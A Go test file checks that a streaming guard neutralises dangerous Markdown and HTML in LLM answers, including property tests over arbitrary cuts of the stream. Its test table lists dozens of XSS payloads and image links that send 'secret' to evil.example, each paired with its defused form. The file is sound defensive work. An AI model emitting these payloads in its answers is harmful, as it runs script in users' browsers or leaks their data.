package llm

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"
	nethtml "golang.org/x/net/html"
	"pgregory.net/rapid"
)

// guarded passes text through a guard, cut at the given places.
func guarded(text string, cuts ...int) string {
	var g markupGuard
	out, from := "", 0
	for _, cut := range cuts {
		out += g.write(text[from:cut])
		from = cut
	}
	return out + g.write(text[from:]) + g.flush()
}

// tricks are answers that do harm where Markdown with raw HTML is shown.
var tricks = []struct{ text, want string }{
	{"[a](javascript:alert(1))", "[a](#javascript:alert(1))"},
	{"[a](JaVaScRiPt:alert(1))", "[a](#JaVaScRiPt:alert(1))"},
	{"[a](java\tscript:alert(1))", "[a](#java\tscript:alert(1))"},
	{"[a](<java\tscript:alert(1)>)", "[a](#java\tscript:alert(1) )"},
	{"[a](java\nscript:alert(1))", "[a](#java\nscript:alert(1))"},
	{"[a]( \n javascript:alert(1))", "[a]( \n #javascript:alert(1))"},
	{"[a](< javascript:alert(1)>)", "[a]( #javascript:alert(1) )"},
	{"[a](\x01javascript:alert(1))", "[a](#javascript:alert(1))"},
	{"[a](java\x00script:alert(1))", "[a](#javascript:alert(1))"},
	{"[a](java\u0085script:alert(1))", "[a](#javascript:alert(1))"},
	{"[a](javascript&#58;alert(1))", "[a](#javascript&#58;alert(1))"},
	{"[a](javascript&colon;alert(1))", "[a](#javascript&colon;alert(1))"},
	{"[a](java&Tab;script:alert(1))", "[a](#java&Tab;script:alert(1))"},
	{"[a](&#106;avascript:alert(1))", "[a](#&#106;avascript:alert(1))"},
	{`[a](javascript\:alert(1))`, `[a](#javascript\:alert(1))`},
	{"[a](vbscript:msgbox(1))", "[a](#vbscript:msgbox(1))"},
	{"[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](#data:text/html;base64,PHNjcmlwdD4=)"},
	{"[a](file:///etc/passwd)", "[a](#file:///etc/passwd)"},
	{"[a](https:javascript)", "[a](#https:javascript)"},
	{"[a](" + strings.Repeat("x", 100) + ":y)", "[a](#" + strings.Repeat("x", 100) + ":y)"},
	{"[a](" + strings.Repeat(" ", 300) + "data:x)", "[a](#" + strings.Repeat(" ", 300) + "data:x)"},
	{"[a][b]\n\n[b]: javascript:alert(1)", "[a][b]\n\n[b]: #javascript:alert(1)"},
	{"[a][b]\n\n[b]:\n  javascript:alert(1)", "[a][b]\n\n[b]:\n  #javascript:alert(1)"},
	{"[a][b]\n\n[b]: <javascript:alert(1)>", "[a][b]\n\n[b]: #javascript:alert(1) "},
	{"[b]\n\n[b]: java&#x73;cript:alert(1)", "[b]\n\n[b]: #java&#x73;cript:alert(1)"},
	{"<javascript:alert(1)>", "< javascript:alert(1)>"},
	{"<script>alert(1)</script>", "< script>alert(1)< /script>"},
	{"<ScRiPt src=//evil.example>", "< ScRiPt src=//evil.example>"},
	{"<scr\x00ipt>alert(1)</script>", "< script>alert(1)< /script>"},
	{"<\x00script>alert(1)</script>", "< script>alert(1)< /script>"},
	{"<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"},
	{"<svg/onload=alert(1)>", "< svg/onload=alert(1)>"},
	{"<svg><animate href=javascript:alert(1)></svg>", "< svg>< animate href=javascript:alert(1)>< /svg>"},
	{"<iframe srcdoc='<script>alert(1)</script>'></iframe>", "< iframe srcdoc='< script>alert(1)< /script>'>< /iframe>"},
	{"<a href='javascript:alert(1)'>a</a>", "< a href='javascript:alert(1)'>a< /a>"},
	{"<form action=javascript:alert(1)><button>x", "< form action=javascript:alert(1)>< button>x"},
	{"<math><mtext></p><style><img src=x onerror=alert(1)>", "< math>< mtext>< /p>< style>< img src=x onerror=alert(1)>"},
	{"<!--><img src=x onerror=alert(1)>-->", "< !-->< img src=x onerror=alert(1)>-->"},
	{"<![CDATA[<img src=x onerror=alert(1)>]]>", "< ! [CDATA[< img src=x onerror=alert(1)>]]>"},
	{"<?php echo 1 ?>", "< ?php echo 1 ?>"},
	{"<details open ontoggle=alert(1)>", "< details open ontoggle=alert(1)>"},
	{"<https://x onmouseover=alert(1)>", "https://x onmouseover=alert(1) "},
	{"[a](<https://x onclick=alert(1) y>)", "[a](https://x onclick=alert(1) y )"},
	{"[a<https://x]>(javascript:alert(1))", "[ahttps://x] (javascript:alert(1))"},
	{"<https://h><script>alert(1)</script>", "https://h < script>alert(1)< /script>"},
	{"\\`<img src=x onerror=alert(1)>`", "\\`< img src=x onerror=alert(1)>`"},
	{"a ` b\n`<img src=x onerror=alert(1)>` c", "a ` b\n`< img src=x onerror=alert(1)>` c"},
	{"| a `x | b` <img src=x onerror=alert(1)> |\n|-|-|", "| a `x | b` < img src=x onerror=alert(1)> |\n|-|-|"},
	{"```\n<script>alert(1)\n\n</script>\n```", "```\n< script>alert(1)\n\n< /script>\n```"},
	{"<<script>script>alert(1)", "<< script>script>alert(1)"},
	{"![a](https://evil.example/?q=secret)", "! [a](https://evil.example/?q=secret)"},
	{"![a][b]\n\n[b]: https://evil.example/?q=secret", "! [a][b]\n\n[b]: https://evil.example/?q=secret"},
	{"[![a](https://evil.example)](data:x)", "[! [a](https://evil.example)](#data:x)"},
	{"![a](data:text/html;base64,AAAA)", "! [a](#data:text/html;base64,AAAA)"},
	{"[a](https://x){: onclick=\"alert(1)\"}", "[a](https://x) { : onclick=\"alert(1)\"}"},
	{"[a](https://x){onclick=alert(1)}", "[a](https://x) {onclick=alert(1)}"},
	{"Text\n{: onclick=\"alert(1)\"}", "Text\n{ : onclick=\"alert(1)\"}"},
	{"`<b>`{=html}", "`< b>` {=html}"},
}

// plain are answers that lose nothing.
var plain = []string{
	"See [the page](https://example.com/a?b=c:d) [1].", "[b](MAILTO:a@b.c) [c](/path) [d](#top) [e](page.html) [f]() [g](?q=1) [h](über.html)",
	`[a](https://x "A title: with a colon") [b](page.html "Note: x")`, "As in [1]: Warranty: two years [2]: Opens:\n", "[note]: see below", "[1]: https://x",
	"5 < 6, x <= y, a <- b, I <3 you, 1<2", "`a < b && c > d`", "```go\nif a[i] < b[j] {\n\treturn map[string]int{}\n}\n```",
	"Works! [1](https://x) Great!", "| a | b |\n|---|---|\n| 1 | 2 |", "ends with [a]", "ends with [a](", "**bold** _it_ ~~no~~ ![", "x > y", "> quote", "Größe: 5 €, 日本語：はい <", "{a: 1}",
}

func TestAnswersAreHarmless(t *testing.T) {
	t.Parallel()
	require.GreaterOrEqual(t, len(tricks), 40)
	for _, tt := range tricks {
		require.Equal(t, tt.want, guarded(tt.text), "%q", tt.text)
		requireHarmless(t, tt.text, tt.want)
		requireCutsDontMatter(t, tt.text)
	}
	for _, text := range plain {
		if text != "**bold** _it_ ~~no~~ ![" {
			require.Equal(t, text, guarded(text))
		}
		requireHarmless(t, text, guarded(text))
		requireCutsDontMatter(t, text)
	}
	require.Equal(t, "https://h  and mailto:a@b.c ", guarded("<https://h> and <mailto:a@b.c>"))
	require.Equal(t, "Works! [1]", guarded("Works![1]"))
}

type failer interface {
	Helper()
	Fatalf(format string, args ...any)
}

func requireCutsDontMatter(t failer, text string) {
	t.Helper()
	whole := guarded(text)
	for cut := range text {
		if got := guarded(text, cut); got != whole {
			t.Fatalf("%q cut at %d: %q, whole: %q", text, cut, got, whole)
		}
	}
	var all []int
	for cut := range text {
		all = append(all, cut)
	}
	if got := guarded(text, all...); got != whole {
		t.Fatalf("%q in single characters: %q, whole: %q", text, got, whole)
	}
}

var unsafeMarkdown = goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))

// requireHarmless shows an answer in two ways: as Markdown with raw HTML, and as
// HTML by a page that takes it for that.
func requireHarmless(t failer, text, out string) {
	t.Helper()
	var page bytes.Buffer
	if err := unsafeMarkdown.Convert([]byte(out), &page); err != nil {
		t.Fatalf("%v", err)
	}
	for _, shown := range []string{page.String(), out} {
		root, err := nethtml.Parse(strings.NewReader(shown))
		if err != nil {
			t.Fatalf("%v", err)
		}
		for node := range root.Descendants() {
			if node.Type == nethtml.ElementNode {
				requireHarmlessElement(t, text, shown, node)
			}
		}
	}
}

var (
	harmlessElement = regexp.MustCompile(`^(html|head|body|p|a|em|strong|del|code|pre|ul|ol|li|blockquote|h[1-6]|hr|br|table|thead|tbody|tr|th|td|input)$`)
	schemeOf        = regexp.MustCompile(`^([a-z][a-z0-9+.-]*):(.*)$`)
)

// runs reports whether a browser does anything but go to a page or write a mail
// for an address: it trims it, and leaves tabs and line breaks out.
func runs(url string) bool {
	url = strings.TrimFunc(url, func(r rune) bool { return r <= ' ' })
	url = strings.ToLower(strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(url))
	found := schemeOf.FindStringSubmatch(url)
	return found != nil && found[2] != "" && found[1] != "http" && found[1] != "https" && found[1] != "mailto"
}

func requireHarmlessElement(t failer, text, shown string, node *nethtml.Node) {
	t.Helper()
	if !harmlessElement.MatchString(node.Data) {
		t.Fatalf("%q has an element %q: %s", text, node.Data, shown)
	}
	for _, attribute := range node.Attr {
		switch {
		case strings.HasPrefix(attribute.Key, "on"), attribute.Key == "style", attribute.Key == "src":
			t.Fatalf("%q has an attribute %q: %s", text, attribute.Key, shown)
		case attribute.Key == "href" && runs(attribute.Val):
			t.Fatalf("%q leads to %q: %s", text, attribute.Val, shown)
		}
	}
}

// However parts that mean something are put together and cut, the same comes
// out, and it is harmless.
func TestAnswersAreHarmlessInAnyCut(t *testing.T) {
	t.Parallel()
	part := rapid.SampledFrom([]string{
		"[a](", "](", "]", "(", "[b]", ": ", ":", "]: ", "\n", "\n\n", "\n[b]: ", "Note: ", "<", ">", "javascript:", "java", "\t", "script:alert(1)", "https://h", "<https://", "](<", "http", "data:", " ", ")", "text ",
		"&#58;", "&Tab;", "[1]", "é", "!", "{", "{:", "}", "`", "```\n", "img src=x onerror=alert(1)", "script>", "/", "\"", "'", "\\", "x", "|", "* ", "> ", "\x00", "\x1b", strings.Repeat(" ", 100),
	})
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(part, 0, 14).Draw(t, "parts"), "")
		whole := guarded(text)
		var cuts []int
		for i := range text {
			if i > 0 && rapid.Bool().Draw(t, "cut") {
				cuts = append(cuts, i)
			}
		}
		if got := guarded(text, cuts...); got != whole {
			t.Fatalf("%q cut at %v: %q, whole: %q", text, cuts, got, whole)
		}
		requireHarmless(t, text, whole)
	})
}
